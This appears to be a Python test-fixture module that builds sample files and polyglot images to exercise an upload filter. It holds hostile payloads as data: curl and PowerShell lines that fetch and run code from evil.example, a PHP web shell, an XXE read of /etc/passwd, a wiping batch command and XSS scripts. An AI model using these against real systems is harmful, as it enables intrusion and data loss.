"""Files of sixty kinds, in the few bytes by which each is known, and pictures that carry more than pixels."""

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image


def picture(kind="JPEG", size=(64, 48), mode="RGB", **options):
    target = io.BytesIO()
    Image.new(mode, size, 120).save(target, kind, **options)
    return target.getvalue()


def zipped(*names, text=b"<script>alert(1)</script>"):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in names:
            archive.writestr(name, text)
    return target.getvalue()


def chunk(kind, data=b""):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *chunks, bits=8, colours=2):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colours, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
HTML = b"<!DOCTYPE html><html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
WORDS = b"Two things need you today and neither is urgent."
TABLE = b"code,name\nA1,Rice\nA2,Oil\n"

# name of the kind: (ending, bytes). What is kept says KEPT; everything else is refused.
KINDS = {
    "jpeg": ("jpg", picture("JPEG")),
    "png": ("png", picture("PNG")),
    "webp": ("webp", picture("WEBP")),
    "gif": ("gif", picture("GIF", mode="L")),
    "pdf": ("pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF"),
    "text": ("txt", WORDS),
    "csv": ("csv", TABLE),
    "javascript": ("js", b"alert(document.cookie)"),
    "css": ("css", b"body { background: url(//evil.example) }"),
    "python": ("py", b"import os\nos.system('id')\n"),
    "batch": ("bat", b"@echo off\r\ndel C:\\*.*\r\n"),
    "powershell": ("ps1", b"Invoke-WebRequest https://evil.example | iex"),
    "vbscript": ("vbs", b'CreateObject("WScript.Shell").Run "calc"'),
    "json": ("json", b'{"a": "<script>"}'),
    "internet shortcut": ("url", b"[InternetShortcut]\nURL=javascript:alert(1)\n"),
    "desktop entry": ("desktop", b"[Desktop Entry]\nExec=sh -c id\n"),
    "htaccess": ("htaccess", b"AddType application/x-httpd-php .jpg"),
    "mhtml": ("mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>"),
    "eml": ("eml", b"From: a@b.example\nSubject: x\n\nHello"),
    "vcard": ("vcf", b"BEGIN:VCARD\nVERSION:3.0\nEND:VCARD"),
    "html": ("html", HTML),
    "html after blanks": ("htm", b" \r\n\t" + HTML),
    "html with a mark": ("html", b"\xef\xbb\xbf" + HTML),
    "html in utf-16": ("html", HTML.decode().encode("utf-16")),
    "xhtml": ("xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
    "svg": ("svg", SVG),
    "svg packed": ("svgz", gzip.compress(SVG)),
    "xml": ("xml", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    "php": ("php", b"<?php system($_GET['c']); ?>"),
    "hta": ("hta", b"<hta:application><script>alert(1)</script>"),
    "shell": ("sh", b"#!/bin/sh\ncurl evil.example | sh\n"),
    "rtf": ("rtf", b"{\\rtf1 {\\object}}"),
    "postscript": ("ps", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file"),
    "windows program": ("exe", b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(200)),
    "windows library": ("dll", b"MZ\x00\x01" + bytes(200)),
    "linux program": ("elf", b"\x7fELF\x02\x01\x01" + bytes(100)),
    "mac program": ("macho", b"\xcf\xfa\xed\xfe" + bytes(100)),
    "java class": ("class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(20)),
    "webassembly": ("wasm", b"\0asm\x01\0\0\0"),
    "shortcut": ("lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(70)),
    "flash": ("swf", b"CWS\x0a" + bytes(40)),
    "zip": ("zip", zipped("page.html")),
    "docx": ("docx", zipped("[Content_Types].xml", "word/document.xml")),
    "xlsx": ("xlsx", zipped("[Content_Types].xml", "xl/workbook.xml")),
    "pptx": ("pptx", zipped("[Content_Types].xml", "ppt/presentation.xml")),
    "odt": ("odt", zipped("mimetype", text=b"application/vnd.oasis.opendocument.text")),
    "jar": ("jar", zipped("META-INF/MANIFEST.MF")),
    "apk": ("apk", zipped("AndroidManifest.xml", "classes.dex")),
    "epub": ("epub", zipped("mimetype", text=b"application/epub+zip")),
    "word of old": ("doc", OLE),
    "installer": ("msi", OLE + b"msi"),
    "rar": ("rar", b"Rar!\x1a\x07\x01\0" + bytes(40)),
    "7z": ("7z", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    "gzip": ("gz", gzip.compress(b"x" * 500)),
    "bzip2": ("bz2", b"BZh91AY&SY" + bytes(40)),
    "xz": ("xz", b"\xfd7zXZ\0" + bytes(40)),
    "tar": ("tar", b"../../etc/passwd".ljust(257, b"\0") + b"ustar\x0000" + bytes(300)),
    "disc": ("iso", bytes(32769) + b"CD001" + bytes(100)),
    "bmp": ("bmp", picture("BMP")),
    "tiff": ("tif", picture("TIFF")),
    "icon": ("ico", picture("ICO", (16, 16))),
    "photoshop": ("psd", b"8BPS\0\x01" + bytes(40)),
    "heic": ("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(40)),
    "avif": ("avif", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(40)),
    "jpeg 2000": ("jp2", b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(40)),
    "mp3": ("mp3", b"ID3\x03" + bytes(100)),
    "mp4": ("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(40)),
    "webm": ("webm", b"\x1aE\xdf\xa3" + bytes(40)),
    "ogg": ("ogg", b"OggS\0\x02" + bytes(60)),
    "wav": ("wav", b"RIFF\x24\0\0\0WAVEfmt " + bytes(40)),
    "typeface": ("ttf", b"\0\x01\0\0\0\x0c" + bytes(60)),
    "woff2": ("woff2", b"wOF2\0\x01\0\0" + bytes(40)),
    "sqlite": ("db", b"SQLite format 3\0" + bytes(100)),
    "capture": ("pcap", b"\xd4\xc3\xb2\xa1\x02\0\x04\0" + bytes(40)),
    "latin text": ("txt", b"caf\xe9 cr\xe8me"),
}
KEPT = {"jpeg": "image/jpeg", "png": "image/png", "webp": "image/webp", "gif": "image/gif", "pdf": "application/pdf"}
KEPT |= dict.fromkeys(("csv",), "text/csv")
# Programs written as plain words are plain words: kept and given back as such, never as what they are called.
AS_WORDS = ("text", "javascript", "css", "python", "batch", "powershell", "vbscript", "json", "internet shortcut")
AS_WORDS += ("desktop entry", "htaccess", "mhtml", "eml", "vcard")
KEPT |= dict.fromkeys(AS_WORDS, "text/plain")

POLYGLOTS = {
    "gif that is a script": b"GIF89a/*" + bytes(4) + b"*/=1;alert(document.domain)//<script>alert(1)</script>",
    "jpeg with a page behind": picture("JPEG") + HTML,
    "jpeg with an archive behind": picture("JPEG") + zipped("page.html"),
    "jpeg with php as its comment": picture("JPEG", comment=b"<?php system($_GET['c']); ?>"),
    "png with a program behind": picture("PNG") + b"MZ\x90\0<script>alert(1)</script>",
    "webp with svg behind": picture("WEBP") + SVG,
    "a page called pdf": b"%PDF<html><script>alert(1)</script>",
    "a page before a pdf": HTML + b"\n%PDF-1.7",
    "bmp that is a script": b"BM=1;alert(1);//" + bytes(60),
    "png head over jpeg": b"\x89PNG\r\n\x1a\n" + picture("JPEG"),
    "jpeg head over svg": b"\xff\xd8\xff" + SVG,
    "zip with a gif before": b"GIF89a" + zipped("page.html"),
    "tar that begins as a table": (b"a,b\n" * 60).ljust(257, b"\0") + b"ustar\x0000",
}
